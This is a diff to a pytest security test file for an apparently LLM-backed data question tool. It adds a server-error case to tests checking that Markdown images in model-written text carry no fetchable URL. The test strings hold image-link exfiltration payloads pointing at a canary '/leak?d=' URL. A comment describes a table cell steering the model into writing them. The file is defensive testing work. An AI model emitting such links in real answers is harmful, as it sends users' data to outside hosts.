@@ -10,12 +10,14 @@ from __future__ import annotations
 
 import ast
 import re
+from dataclasses import replace
 from pathlib import Path
 
 import pytest
 
 from core.ask import ask
 from core.charts import KINDS
+from tests.fakellm import Reply
 from tests.security.attack import messages_text, result_text
 from tests.security.world import World, snapshot_changes
 
@@ -96,18 +98,26 @@ def test_code_in_the_models_reply_is_never_run_and_the_chart_is_a_spec(world: Wo
 
 # Text the model writes is drawn as Markdown: an image in it is fetched by the browser of
 # whoever opens the answer, with whatever the model (or a cell that steered it) put in the URL.
-# The model writes three texts a page draws: the answer sentence, the line saying how it read
-# the question ("Understood as: ..."), and its reason when it declines.
+# The model (or its server) writes four texts a page draws: the answer sentence, the line
+# saying how it read the question ("Understood as: ..."), its reason when it declines, and the
+# server's own words in an error it returns.
 SQL_REPLY = "```sql\nSELECT region, sum(revenue) AS revenue FROM sales GROUP BY region\n```"
 IMAGE = "![chart]({url}/leak?d=North-7225)"
 EXFILTRATIONS = {
     "sentence-inline-image": (SQL_REPLY, "North leads. " + IMAGE),
     "sentence-reference-image": (SQL_REPLY, "North leads. ![chart][1]\n\n[1]: {url}/leak?d=N"),
     "understanding": (f"Revenue per region, as on {IMAGE}.\n{SQL_REPLY}", "North leads."),
-    "refusal": (f"I cannot answer that from these tables {IMAGE} sorry.", None),
+    "refusal": (f"I cannot answer that from these tables {IMAGE} sorry.",),
+    "server-error": (Reply.error(400, f"Your request was flagged {IMAGE}."),),
 }
-# The sentence is cleaned today; how the model read the question and its refusal are not.
-_OPEN = {"understanding", "refusal"}
+# The sentence is cleaned today; the other three are not.
+_OPEN = {"understanding", "refusal", "server-error"}
+
+
+def _with_url(reply: str | Reply, url: str) -> str | Reply:
+    if isinstance(reply, Reply):
+        return replace(reply, message=(reply.message or "").format(url=url))
+    return reply.format(url=url)
 
 
 @pytest.mark.parametrize(
@@ -118,7 +128,7 @@ _OPEN = {"understanding", "refusal"}
     ],
 )
 def test_text_the_model_writes_carries_no_url_for_the_browser_to_fetch(world: World, replies):
-    world.model.fake.script(*(r.format(url=world.canary.url) for r in replies if r))
+    world.model.fake.script(*(_with_url(r, world.canary.url) for r in replies))
     before = len(world.messages())
     result = ask(world.session, world.settings, world.alice, world.chat_id, "revenue by region")
     assert world.model.fake.pending == 0, "a scripted reply was not used"
